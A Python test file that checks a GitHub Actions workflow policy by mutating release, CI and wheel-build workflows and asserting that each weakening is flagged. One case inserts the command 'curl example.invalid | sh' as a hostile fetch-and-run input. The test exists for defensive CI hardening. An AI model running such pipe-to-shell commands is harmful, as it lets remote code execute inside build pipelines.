"""Our workflows keep to the policy; each rule of it refuses what it is there for, by name."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from ci.paths import ROOT
from scripts import policy, seeds

WORKFLOWS = ROOT / ".github" / "workflows"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return Path(shutil.copytree(WORKFLOWS, tmp_path / "workflows"))


def test_the_workflows_keep_to_it() -> None:
    assert list(policy.problems(WORKFLOWS)) == []


@pytest.mark.parametrize(
    ("name", "old", "new", "message"),
    [
        ("release.yml", "    needs: [gate, attest]\n", "    needs: attest\n", ""),  # the chain holds without it
        ("release.yml", "    needs: [gate, attest]\n", "    needs: gate\n", "release.yml: publish: needs"),
        ("release.yml", "    needs: gate\n", "", "release.yml: attest: needs"),
        ("release.yml", "  attest:\n", "  attest:\n    if: always()\n", "release.yml: attest: if"),
        ("release.yml", "      attestations: write", "      contents: write", "release.yml: attest: permissions"),
        ("release.yml", "      id-token: write # trusted", "      id-token: none # trusted", "release.yml: publish"),
        ("release.yml", "    timeout-minutes: 30\n", "", "release.yml: publish: no time limit"),
        ("ci.yml", "  pull_request:\n", "  pull_request_target:\n", "ci.yml: on"),
        ("ci.yml", "needs: [lint, deny, ", "needs: [deny, ", "ci.yml: done: needs"),
        ("ci.yml", "-s lint\n", "-s lint\n        continue-on-error: true\n", "ci.yml: lint: continue-on-error"),
        ("ci.yml", "python3 noxfile.py -s lint\n", "curl example.invalid | sh\n", "ci.yml: lint: run"),
        ("ci.yml", "      contents: read # checkout\n", "      packages: read\n", "ci.yml: lint: permissions"),
        ("wheels.yml", "permissions: {}\n", "permissions: write-all\n", "wheels.yml: permissions on top"),
        ("wheels.yml", "          persist-credentials: false\n", "", "wheels.yml: plan: checkout"),
        ("wheels.yml", "          python-version:", "          cache: pip\n          python-version:", "plan: a cache"),
        ("wheels.yml", "actions/checkout@", "stranger/checkout@", "an action"),
        ("wheels.yml", "    needs: plan\n", "", "wheels.yml: build: needs"),
    ],
)  # fmt: skip
def test_each_rule(folder: Path, name: str, old: str, new: str, message: str) -> None:
    path = folder / name
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    found = [str(problem) for problem in policy.problems(folder)]
    assert bool(found) == bool(message)
    assert any(message in problem for problem in found) or not message


def test_a_workflow_that_is_gone(folder: Path) -> None:
    (folder / "release.yml").unlink()
    assert [problem.message for problem in policy.problems(folder)] == ["release.yml: missing"]


def test_exit_status(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert policy.main(folder) == 0
    (folder / "ci.yml").unlink()
    assert policy.main(folder) == 1
    assert "ci.yml: missing" in capsys.readouterr().out


@pytest.mark.parametrize("mistake", seeds.MISTAKES.values(), ids=seeds.MISTAKES.keys())
def test_every_seed_changes_something(mistake: Callable[[str], object]) -> None:
    text = (WORKFLOWS / "release.yml").read_text(encoding="utf-8")
    made = list(mistake(text))  # type: ignore[call-overload]
    assert made
    assert text not in made
